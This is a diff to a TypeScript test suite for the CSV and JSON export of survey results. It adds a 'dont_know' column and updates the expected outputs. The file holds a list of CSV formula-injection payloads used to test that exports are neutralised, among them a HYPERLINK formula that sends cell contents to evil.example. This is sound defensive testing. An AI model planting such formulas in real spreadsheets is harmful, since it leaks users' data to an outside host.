@@ -60,7 +60,7 @@ const BOM = "\uFEFF";
 const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
 
 function row(over: Partial<ExportRow> = {}): ExportRow {
-  return { round: 1, instrument: "vichealth-checklist", version: 1, section: "s1", item: "s1.1", statement: "Partners share the need", n: 3, mean: 4, sd: Math.sqrt(2 / 3), min: 3, max: 5, divergent: false, withheld: false, choices: null, mostCommon: null, ...over };
+  return { round: 1, instrument: "vichealth-checklist", version: 1, section: "s1", item: "s1.1", statement: "Partners share the need", n: 3, mean: 4, sd: Math.sqrt(2 / 3), min: 3, max: 5, divergent: false, withheld: false, choices: null, mostCommon: null, dontKnow: null, ...over };
 }
 
 const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2", "@SUM(A1:A9)", "\tcmd", "\r=1+1", "＝1+1"];
@@ -70,16 +70,16 @@ describe("results as CSV", () => {
     const csv = resultsCsv([row(), row({ round: 2, n: null, mean: null, sd: null, min: null, max: null, withheld: true, divergent: true })], "en");
     expect(csv.startsWith(BOM)).toBe(false);
     expect(csv.split("\n")).toEqual([
-      "round,instrument,version,section,item,statement,n,mean,sd,min,max,divergent,withheld,choices,most_common",
-      "1,vichealth-checklist,1,s1,s1.1,Partners share the need,3,4,0.82,3,5,0,0,,",
-      "2,vichealth-checklist,1,s1,s1.1,Partners share the need,,,,,,1,1,,",
+      "round,instrument,version,section,item,statement,n,mean,sd,min,max,divergent,withheld,choices,most_common,dont_know",
+      "1,vichealth-checklist,1,s1,s1.1,Partners share the need,3,4,0.82,3,5,0,0,,,",
+      "2,vichealth-checklist,1,s1,s1.1,Partners share the need,,,,,,1,1,,,",
       "",
     ]);
   });
 
   it("gives a choice statement (Activity 1's purposes) its count per level and the most common one, in CSV and JSON", () => {
     const purpose = row({ instrument: "vichealth-purpose", section: "purposes", item: "purposes.p1", statement: "Share data on children's health", n: 6, mean: null, sd: null, min: null, max: null, choices: [["networking", 1], ["coordinating", 4], ["cooperating", 1], ["collaborating", 0]], mostCommon: "coordinating" });
-    expect(resultsCsv([purpose], "en").split("\n")[1]).toBe("1,vichealth-purpose,1,purposes,purposes.p1,Share data on children's health,6,,,,,0,0,networking=1 coordinating=4 cooperating=1 collaborating=0,coordinating");
+    expect(resultsCsv([purpose], "en").split("\n")[1]).toBe("1,vichealth-purpose,1,purposes,purposes.p1,Share data on children's health,6,,,,,0,0,networking=1 coordinating=4 cooperating=1 collaborating=0,coordinating,");
     const json = JSON.parse(resultsJson([purpose, row()], "en", { partnership: "Sund By", exportedAt: "2026-12-01T09:00:00.000Z" })) as { rounds: { statements: Record<string, unknown>[] }[] };
     expect(json.rounds[0]!.statements[0]).toMatchObject({ choices: { networking: 1, coordinating: 4, cooperating: 1, collaborating: 0 }, mostCommon: "coordinating" });
     expect(json.rounds[1]!.statements[0]).not.toHaveProperty("choices");
@@ -91,9 +91,9 @@ describe("results as CSV", () => {
     expect(Buffer.from(csv, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
     const [header, line] = csv.slice(1).split("\n");
     expect(header).toBe(CSV_HEADERS.da.join(";"));
-    expect(header).toBe("runde;instrument;version;afsnit;udsagn-id;udsagn;n;gennemsnit;standardafvigelse;min;maks;uenighed;tilbageholdt;valg;hyppigst");
+    expect(header).toBe("runde;instrument;version;afsnit;udsagn-id;udsagn;n;gennemsnit;standardafvigelse;min;maks;uenighed;tilbageholdt;valg;hyppigst;ved-ikke");
     // A comma in the text needs no quotes when the separator is a semicolon.
-    expect(line).toBe("1;vichealth-checklist;1;s1;s1.1;Vi deler behovet, én gang for alle;3;3,46;1,2;3;5;0;0;;");
+    expect(line).toBe("1;vichealth-checklist;1;s1;s1.1;Vi deler behovet, én gang for alle;3;3,46;1,2;3;5;0;0;;;");
   });
 
   it("neutralises every formula a statement could carry, in both languages", () => {
@@ -130,7 +130,7 @@ describe("results as CSV", () => {
       const cells = readCsv(csv.replace(/^\uFEFF/, ""), sep);
       expect(cells).toHaveLength(2);
       expect(cells[1]![5]).toBe(text);
-      expect(cells[1]).toHaveLength(15);
+      expect(cells[1]).toHaveLength(16);
     }
   });
 
@@ -153,6 +153,7 @@ describe("results as CSV", () => {
       withheld: fc.boolean(),
       choices: fc.option(fc.array(fc.tuple(cellText, fc.integer({ min: 0, max: 50 })), { maxLength: 5 })),
       mostCommon: fc.option(cellText),
+      dontKnow: fc.option(fc.integer({ min: 0, max: 50 })),
     });
     fc.assert(
       fc.property(fc.array(anyRow, { maxLength: 8 }), fc.constantFrom("en" as const, "da" as const), (rows, lang) => {
@@ -163,8 +164,9 @@ describe("results as CSV", () => {
         const marked = (s: string) => (FORMULA_START.test(s) ? `'${s}` : s);
         rows.forEach((r, i) => {
           const got = cells[i + 1]!;
-          expect(got).toHaveLength(15);
+          expect(got).toHaveLength(16);
           expect(got[14]).toBe(r.mostCommon === null ? "" : marked(r.mostCommon));
+          expect(got[15]).toBe(r.dontKnow === null ? "" : String(r.dontKnow));
           expect([got[1], got[3], got[4], got[5]]).toEqual([r.instrument, r.section, r.item, r.statement].map(marked));
           for (const cell of got) expect(cell).not.toMatch(FORMULA_START);
           const num = (s: string) => (s === "" ? null : Number(s.replace(",", ".")));
